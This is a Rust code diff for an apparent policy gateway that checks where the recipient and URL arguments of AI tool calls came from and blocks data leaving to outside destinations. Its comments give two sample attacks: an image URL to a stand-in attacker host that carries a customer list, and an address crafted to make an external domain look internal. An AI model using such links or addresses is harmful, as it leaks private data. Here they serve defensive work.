@@ -10,8 +10,12 @@ use std::collections::BTreeSet;
 
 use serde_json::Value;
 use sha2::{Digest, Sha256};
-use warden_policy::provenance::{ArgProvenance, MAX_TOKENS_PER_TEXT, tokens, value_tokens};
-use warden_types::{Action, ErrorCode, Tool};
+use warden_policy::provenance::{
+    ArgProvenance, MAX_TOKENS_PER_TEXT, arg_tokens, field_tokens, internal, tokens, traced,
+    value_tokens,
+};
+use warden_policy::recipients::Internal;
+use warden_types::{Action, ErrorCode, Tool, ToolKind, Trace};
 
 use crate::{Gateway, Refusal};
 
@@ -48,35 +52,102 @@ pub(crate) fn text_values<'a>(run: &str, texts: impl IntoIterator<Item = &'a str
     hashes(run, all)
 }
 
-/// The hashed values a tool result names, in `run`.
-pub(crate) fn result_values(run: &str, result: &Value) -> Vec<String> {
-    hashes(run, value_tokens(result))
+/// An empty string or list names nobody.
+fn is_blank(v: &Value) -> bool {
+    match v {
+        Value::String(s) => s.trim().is_empty(),
+        Value::Array(a) => a.iter().all(is_blank),
+        _ => false,
+    }
+}
+
+/// The hashed values a tool result names, in `run`: `(trusted, untrusted)`. Values under the
+/// tool's `trusted_fields` are trusted (a system of record's own data); the rest is untrusted.
+pub(crate) fn result_values(run: &str, tool: &Tool, result: &Value) -> (Vec<String>, Vec<String>) {
+    let trusted = if tool.trusted_fields.is_empty() {
+        BTreeSet::new()
+    } else {
+        field_tokens(result, &tool.trusted_fields)
+    };
+    let untrusted: BTreeSet<String> = value_tokens(result)
+        .into_iter()
+        .filter(|t| !trusted.contains(t))
+        .collect();
+    (hashes(run, trusted), hashes(run, untrusted))
 }
 
 impl Gateway {
-    /// Where the values of `action`'s recipient arguments came from, in its run. A store error
-    /// refuses the action (fail closed).
+    /// Where the values of `action`'s recipient arguments and traced arguments came from, in
+    /// its run. The organisation's own addresses, URLs and counterparties are not asked about.
+    /// A store error refuses the action (fail closed).
     pub(crate) async fn arg_provenance(
         &self,
         tool: &Tool,
         action: &Action,
+        org: &Internal,
     ) -> Result<ArgProvenance, Refusal> {
         let mut out = ArgProvenance::default();
-        if tool.recipients.is_empty() {
-            return Ok(out);
+        // A recipient is traced by its addresses (an e-mail) or its whole values (an IBAN, a
+        // counterparty of another channel), and must name at least one; a traced argument only
+        // by the values its trace picks (the links in a body may be none). Every other
+        // argument of a call that is not a read is traced for links: a URL is where data
+        // leaves by (`https://attacker.example/p.png?d=<the customer list>`).
+        let mut traced_args: Vec<(&String, Trace, bool)> = tool
+            .recipients
+            .iter()
+            .map(|(arg, channel)| {
+                let trace = match channel.as_str() {
+                    warden_policy::recipients::EMAIL => Trace::Email,
+                    _ => Trace::Any,
+                };
+                (arg, trace, true)
+            })
+            .chain(
+                tool.provenance
+                    .iter()
+                    .map(|(arg, t)| (arg, *t, *t == Trace::Any)),
+            )
+            .collect();
+        if tool.kind != ToolKind::Read
+            && let Some(args) = action.arguments.as_object()
+        {
+            for arg in args.keys() {
+                if !tool.recipients.contains_key(arg) && !tool.provenance.contains_key(arg) {
+                    traced_args.push((arg, Trace::Url, false));
+                }
+            }
         }
         let mut asked: Vec<(String, String)> = Vec::new();
-        for arg in tool.recipients.keys() {
+        for (arg, trace, must_name) in traced_args {
             let Some(v) = action.arguments.get(arg) else {
                 continue;
             };
-            let toks = value_tokens(v);
-            if toks.is_empty() && !v.is_null() {
+            let toks: Vec<String> = arg_tokens(v)
+                .into_iter()
+                .filter(|t| traced(t, trace))
+                .collect();
+            if toks.is_empty() && must_name && !v.is_null() && !is_blank(v) {
                 // A value Warden cannot read as any token is nowhere to be found.
                 out.unknown.insert(arg.clone());
             }
+            let before = asked.len();
             for t in toks {
-                asked.push((arg.clone(), hash(&action.session, &t)));
+                if !internal(&t, org) {
+                    asked.push((arg.clone(), hash(&action.session, &t)));
+                }
+            }
+            // A recipient that is external by `context.recipient.external`'s reading but names
+            // no outside value here (`exfil.example!evil@groupany.example` cuts into an
+            // internal-looking address and a domain) is nowhere to be found.
+            if asked.len() == before
+                && let Some(channel) = tool.recipients.get(arg)
+            {
+                let one = std::collections::BTreeMap::from([(arg.clone(), channel.clone())]);
+                if warden_policy::recipients::any_external(&one, &action.arguments, org)
+                    == Some(true)
+                {
+                    out.unknown.insert(arg.clone());
+                }
             }
         }
         if asked.is_empty() {
